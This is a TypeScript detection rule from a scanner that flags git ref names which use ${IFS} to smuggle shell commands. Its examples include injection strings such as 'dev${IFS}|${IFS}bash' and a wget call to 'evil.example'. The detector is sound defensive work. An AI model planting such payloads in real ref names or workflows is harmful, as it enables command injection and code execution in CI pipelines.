// CG-REF-002: ${IFS} used as a space (git forbids spaces in ref names; ${IFS} expands to one).
import type {RuleMeta} from '../../report/rule-meta.js'
import type {Hit, NameRule} from '../types.js'
import {IFS} from './patterns.js'

export const meta: RuleMeta = {
  id: 'CG-REF-002',
  title: `\${IFS} space bypass in a ref name`,
  severity: 'critical',
  description: `git rejects spaces in ref names, so payloads write \${IFS} (the shell's field separator) instead: x\${IFS}|\${IFS}bash. No legitimate name contains it.`,
  remediation: 'delete the ref and check which workflows ran with it',
  example: {bad: `dev\${IFS}|\${IFS}bash`, good: 'dev'},
  examples: {
    flagged: [`dev\${IFS}|\${IFS}bash`, `x\${IFS}&&\${IFS}wget\${IFS}-qO-\${IFS}evil.example`],
    clean: ['dev', 'feature/ifs-parser'],
  },
}

export const rule: NameRule = {
  meta,
  check: (name: string): Hit[] => (IFS.test(name) ? [{message: `\${IFS} stands in for a space so that a shell splits the name into a command line`}] : []),
}
